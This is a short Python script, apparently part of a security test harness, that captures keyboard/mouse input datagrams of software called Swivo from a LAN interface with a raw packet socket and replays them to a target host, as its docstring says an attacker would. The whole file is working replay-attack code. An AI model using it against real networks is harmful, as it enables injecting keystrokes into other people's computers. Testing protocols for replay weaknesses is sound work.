#!/usr/bin/env python3
"""Captured Swivo input played again, as an attacker on the LAN would:
  swivo_capture.py capture IFACE PORT SECONDS OUT   every KmKey (36-byte datagram of type 7) that
                                                    arrives on IFACE for PORT, one hex line each
  swivo_capture.py send HOST PORT FILE              sends each captured datagram to HOST:PORT
Run inside a computer's namespace (ip netns exec); capture needs root (a packet socket)."""
import socket
import struct
import sys
import time

ETH_P_ALL = 0x0003  # every frame: a filter on IPv4 alone misses what the veth delivers


def capture(iface, port, seconds, out):
    sniffer = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(ETH_P_ALL))
    sniffer.bind((iface, ETH_P_ALL))
    sniffer.settimeout(0.2)
    print("capturing", flush=True)
    end = time.time() + seconds
    with open(out, "w") as found:
        while time.time() < end:
            try:
                packet = sniffer.recv(2048)
            except socket.timeout:
                continue
            if len(packet) < 28 or packet[0] >> 4 != 4 or packet[9] != socket.IPPROTO_UDP:
                continue
            header = (packet[0] & 0x0F) * 4
            dst_port = struct.unpack("!H", packet[header + 2:header + 4])[0]
            data = packet[header + 8:]
            if dst_port == port and len(data) == 36 and data[2:4] == b"\x00\x07":
                found.write(data.hex() + "\n")
                found.flush()


def send(host, port, path):
    sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    with open(path) as lines:
        for line in lines:
            if line.strip():
                sender.sendto(bytes.fromhex(line.strip()), (host, port))
                time.sleep(0.01)


if __name__ == "__main__":
    if len(sys.argv) == 6 and sys.argv[1] == "capture":
        capture(sys.argv[2], int(sys.argv[3]), float(sys.argv[4]), sys.argv[5])
    elif len(sys.argv) == 5 and sys.argv[1] == "send":
        send(sys.argv[2], int(sys.argv[3]), sys.argv[4])
    else:
        print(__doc__)
        sys.exit(2)
